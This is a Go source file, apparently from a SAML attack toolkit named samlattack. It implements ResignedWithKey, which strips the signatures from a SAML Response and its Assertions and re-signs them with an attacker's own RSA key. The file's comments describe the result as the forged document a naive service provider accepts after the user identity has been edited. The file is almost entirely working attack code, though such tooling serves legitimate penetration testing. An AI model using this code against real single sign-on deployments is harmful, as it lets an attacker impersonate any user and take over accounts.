package samlattack

import (
	"crypto"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"errors"
	"fmt"

	"github.com/beevik/etree"
)

// ErrKey: ResignedWithKey's key is not an RSA key, or the certificate is
// not the key's.
var ErrKey = errors.New("samlattack: the key cannot sign as asked")

// The algorithms of the signatures ResignedWithKey makes: those of nearly
// every SAML IdP today.
const (
	algExcC14N    = "http://www.w3.org/2001/10/xml-exc-c14n#"
	algEnveloped  = "http://www.w3.org/2000/09/xmldsig#enveloped-signature"
	algRSASHA256  = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
	algSHA256     = "http://www.w3.org/2001/04/xmlenc#sha256"
	signingPrefix = "ds"
)

// ResignedWithKey signs doc again with the attacker's own key: the forged
// document a naive SP accepts when it trusts the certificate in the
// message's KeyInfo instead of the IdP's it was configured with (or
// accepts any self-signed certificate). Typical use: SetIdentity on a
// genuine Response, any other Set edits, then ResignedWithKey.
//
// Every Assertion that is a child of the Response is signed, and the
// Response too if it carried a signature: each one's old signatures are
// removed and an enveloped signature is put in after its Issuer, as SAML's
// schema places it: exclusive canonicalization without comments (empty
// InclusiveNamespaces), RSA PKCS #1 v1.5 with SHA-256, a SHA-256 digest,
// and cert, if not nil, in KeyInfo/X509Data. The Assertions are signed
// before the Response, whose digest covers theirs. An element to sign must
// have an ID.
//
// key must be an RSA key (ErrKey otherwise), and cert, when given, must be
// its certificate.
func ResignedWithKey(doc []byte, key crypto.Signer, cert *x509.Certificate) ([]byte, error) {
	if key == nil {
		return nil, fmt.Errorf("%w: no key", ErrKey)
	}
	if _, ok := key.Public().(*rsa.PublicKey); !ok {
		return nil, fmt.Errorf("%w: %T is not an RSA key", ErrKey, key.Public())
	}
	if cert != nil {
		pub, ok := key.Public().(interface{ Equal(crypto.PublicKey) bool })
		if !ok || !pub.Equal(cert.PublicKey) {
			return nil, fmt.Errorf("%w: the certificate is not the key's", ErrKey)
		}
	}
	d, root, err := parseResponse(doc)
	if err != nil {
		return nil, err
	}
	as := children(root, nsAssertion, "Assertion")
	if len(as) == 0 {
		return nil, ErrNoAssertion
	}
	responseSigned := signatureOf(root) != nil
	for _, el := range as {
		if err := sign(el, key, cert); err != nil {
			return nil, err
		}
	}
	if responseSigned {
		if err := sign(root, key, cert); err != nil {
			return nil, err
		}
	}
	return write(d)
}

// sign replaces el's signatures with an enveloped one made with key.
func sign(el *etree.Element, key crypto.Signer, cert *x509.Certificate) error {
	id := el.SelectAttrValue("ID", "")
	if id == "" {
		return fmt.Errorf("samlattack: sign %s: no ID", el.Tag)
	}
	removeSignatures(el)
	c, err := canonical(el, nil)
	if err != nil {
		return err
	}
	digest := sha256.Sum256(c)

	sig := etree.NewElement(signingPrefix + ":Signature")
	sig.CreateAttr("xmlns:"+signingPrefix, nsDSig)
	ds := func(parent *etree.Element, local string) *etree.Element {
		return parent.CreateElement(signingPrefix + ":" + local)
	}
	si := ds(sig, "SignedInfo")
	ds(si, "CanonicalizationMethod").CreateAttr("Algorithm", algExcC14N)
	ds(si, "SignatureMethod").CreateAttr("Algorithm", algRSASHA256)
	ref := ds(si, "Reference")
	ref.CreateAttr("URI", "#"+id)
	transforms := ds(ref, "Transforms")
	ds(transforms, "Transform").CreateAttr("Algorithm", algEnveloped)
	ds(transforms, "Transform").CreateAttr("Algorithm", algExcC14N)
	ds(ref, "DigestMethod").CreateAttr("Algorithm", algSHA256)
	ds(ref, "DigestValue").SetText(base64.StdEncoding.EncodeToString(digest[:]))
	value := ds(sig, "SignatureValue")
	if cert != nil {
		ds(ds(ds(sig, "KeyInfo"), "X509Data"), "X509Certificate").SetText(base64.StdEncoding.EncodeToString(cert.Raw))
	}

	// SignedInfo is canonicalized where it will stand, inside the
	// Signature inside el: that is where a verifier finds it.
	insertAfter(el, sig, issuerName)
	c, err = canonical(si, nil)
	if err != nil {
		return err
	}
	h := sha256.Sum256(c)
	sv, err := key.Sign(rand.Reader, h[:], crypto.SHA256)
	if err != nil {
		return fmt.Errorf("samlattack: sign: %w", err)
	}
	value.SetText(base64.StdEncoding.EncodeToString(sv))
	return nil
}
